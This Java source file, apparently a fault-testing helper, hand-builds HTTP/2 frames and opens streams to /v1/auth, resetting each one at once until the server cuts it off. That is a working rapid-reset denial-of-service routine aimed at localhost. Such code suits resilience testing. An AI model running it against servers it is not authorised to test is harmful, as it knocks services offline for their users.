package io.vitae.faults;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** As much of HTTP/2 as it takes to misuse it (RFC 9113). */
final class Http2 {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_STREAM_AND_HEADERS = 5;

  /** HPACK: {@code :method GET}, {@code :scheme http}, {@code :path /v1/auth}, an authority. */
  private static final byte[] REQUEST = request();

  private Http2() {}

  /** Opens streams and resets each at once; returns how many it could before it was cut off. */
  static int resetMany(Socket socket, int streams) throws IOException {
    ByteArrayOutputStream start = new ByteArrayOutputStream();
    start.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    start.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    socket.getOutputStream().write(start.toByteArray());
    int opened = 0;
    try {
      for (int id = 1; opened < streams; id += 2) {
        ByteArrayOutputStream pair = new ByteArrayOutputStream();
        pair.writeBytes(frame(HEADERS, END_STREAM_AND_HEADERS, id, REQUEST));
        pair.writeBytes(frame(RST_STREAM, 0, id, new byte[] {0, 0, 0, 8}));
        socket.getOutputStream().write(pair.toByteArray());
        opened++;
      }
    } catch (IOException cutOff) {
      return opened;
    }
    return opened;
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] request() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x82);
    block.write(0x86);
    literal(block, 4, "/v1/auth");
    literal(block, 1, "localhost");
    return block.toByteArray();
  }

  /** A literal without indexing, whose name is in the static table. */
  private static void literal(ByteArrayOutputStream block, int name, String value) {
    block.write(name);
    block.write(value.length());
    block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }
}
